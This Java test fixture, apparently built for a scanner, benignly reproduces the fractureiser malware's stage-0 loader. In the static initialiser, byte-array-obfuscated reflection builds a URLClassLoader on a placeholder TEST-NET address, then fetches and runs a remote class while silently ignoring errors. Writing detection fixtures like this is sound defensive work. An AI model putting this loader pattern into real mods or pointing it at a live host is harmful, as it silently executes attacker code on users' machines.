package com.example.victim;

import java.net.URL;

/**
 * A benign reproduction of fractureiser's stage 0 (June 2023): a static method called
 * from the static initialiser builds its strings from byte arrays, loads
 * java.net.URLClassLoader by reflection, constructs it on a URL and invokes "run" on a
 * class loaded from it. The URL is TEST-NET-1 (192.0.2.1): never routable. The tests
 * only compile and scan this class; nothing ever loads or runs it.
 */
public class VictimMod {
    static {
        System.out.println("victim mod loaded");
        _d1385bd3c36f464882460aa4f0484c53();
    }

    private static void _d1385bd3c36f464882460aa4f0484c53() {
        try {
            Class<?> loaderClass = Class.forName(new String(new byte[] {
                106, 97, 118, 97, 46, 110, 101, 116, 46, 85, 82, 76, 67, 108, 97, 115, 115, 76, 111, 97, 100, 101, 114}));
            Object loader = loaderClass.getConstructor(URL[].class).newInstance((Object) new URL[] {
                new URL(new String(new byte[] {104, 116, 116, 112, 58, 47, 47, 49, 57, 50, 46, 48, 46, 50, 46, 49, 47}))});
            Class<?> payload = (Class<?>) loaderClass.getMethod(
                new String(new byte[] {108, 111, 97, 100, 67, 108, 97, 115, 115}), String.class).invoke(loader, "Dev");
            payload.getMethod(new String(new byte[] {114, 117, 110}), String.class).invoke(null, "-114.-18.38.108.-100");
        } catch (Throwable t) {
        }
    }
}
